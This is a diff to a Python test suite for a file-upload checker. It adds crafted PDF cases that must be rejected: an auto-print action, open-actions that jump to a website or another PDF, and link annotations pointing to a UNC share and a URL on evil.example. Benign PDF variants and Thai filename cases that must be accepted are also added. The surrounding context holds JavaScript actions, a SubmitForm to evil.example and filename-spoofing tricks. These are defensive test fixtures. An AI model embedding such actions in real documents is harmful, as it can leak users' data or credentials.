@@ -80,6 +80,13 @@ def encrypted_zip() -> bytes:
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)
 JS = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
 ESCAPED = "/OpenAction << /S /J#61vaScript /J#53 (app.alert) >>"
+
+
+def link_to(file: str) -> str:
+    """An annotation that opens another PDF when it is clicked."""
+    return f"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F {file} /D [0 /Fit] >> >>]"
+
+
 CALLS = "/OpenAction << /S /URI /URI (http://evil.example) >>"
 SENDS = "/Annots [<< /Subtype /Widget /Rect [0 0 9 9] /A << /S /SubmitForm /F (http://evil.example) >> >>]"
 ENTITY = '<!DOCTYPE x [<!ENTITY a "aaaa">]>' + BODY
@@ -174,6 +181,23 @@ HOSTILE = {
     "zip with a PDF before it": ("polyglot", "form.pdf", lambda: make_pdf() + make_docx()),
     "zip with a comment": ("polyglot", "form.docx", lambda: make_docx()[:-2] + b"\x05\0<svg>"),
     # PDFs with actions
+    "print dialog on opening": ("active", "form.pdf", lambda: make_pdf(catalog="/OpenAction << /S /Named /N /Print >>")),
+    "page on opening, then a website": (
+        "active",
+        "form.pdf",
+        lambda: make_pdf(catalog="/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://e.example) >> >>"),
+    ),
+    "other PDF on opening": (
+        "active",
+        "form.pdf",
+        lambda: make_pdf(catalog="/OpenAction << /S /GoToR /F (other.pdf) /D [0 /Fit] >>"),
+    ),
+    "link to a PDF of a server": ("linked", "form.pdf", lambda: make_pdf(page=link_to(r"(\\\\evil.example\\form.pdf)"))),
+    "link to a PDF on the web": (
+        "linked",
+        "form.pdf",
+        lambda: make_pdf(page=link_to("<< /FS /URL /F (http://evil.example/form.pdf) >>")),
+    ),
     "JavaScript on opening": ("active", "form.pdf", lambda: make_pdf(catalog=f"/OpenAction {JS}")),
     "JavaScript by name": ("active", "form.pdf", lambda: make_pdf(catalog=f"/Names << /JavaScript << /Names [(a) {JS}] >> >>")),
     "JavaScript with escaped letters": ("active", "form.pdf", lambda: make_pdf(catalog=ESCAPED)),
@@ -246,6 +270,31 @@ def test_the_plain_ones_are_taken():
     assert check(file=ContentFile(make_xlsx(), name="a")).kind == "xlsx"
 
 
+@pytest.mark.parametrize(
+    "content",
+    [
+        b"\xef\xbb\xbf" + make_pdf(),
+        b"\r\n" + make_pdf(),
+        make_pdf() + b"\x1a",
+        make_pdf() + b"\0" * 512,
+        make_pdf(catalog="/OpenAction << /S /Named /N /FirstPage >>"),
+        make_pdf(page=link_to("(ภาคผนวก.pdf)".encode().decode("latin-1"))),
+        make_pdf(page=link_to("<< /Type /Filespec /F (annex.pdf) /UF (annex.pdf) >>")),
+    ],
+    ids=[
+        "byte order mark",
+        "new line",
+        "Ctrl-Z",
+        "NULs",
+        "first page by name",
+        "link to a PDF",
+        "link by a dictionary",
+    ],
+)
+def test_what_programs_and_transfers_leave_around_a_pdf_is_taken(content):
+    assert check(file=ContentFile(content, name="แบบคำขอ ลว. 5 ก.พ. 69")).pages == 1
+
+
 LONG_THAI = "แบบคำขอลงทะเบียนผู้ผลิต" * 12
 
 
@@ -262,6 +311,7 @@ LONG_THAI = "แบบคำขอลงทะเบียนผู้ผลิ�
         ('a"; filename="b.html.pdf', "a_; filename=_b.html.pdf"),
         ("gpj.\u202efdp.pdf", "gpj.fdp.pdf"),
         ("แบบ", "แบบ.pdf"),
+        ("แบบคำขอ ลว. 5 ก.พ. 69", "แบบคำขอ ลว. 5 ก.พ. 69.pdf"),
     ],
 )
 def test_names_are_kept_without_their_tricks(name, clean):
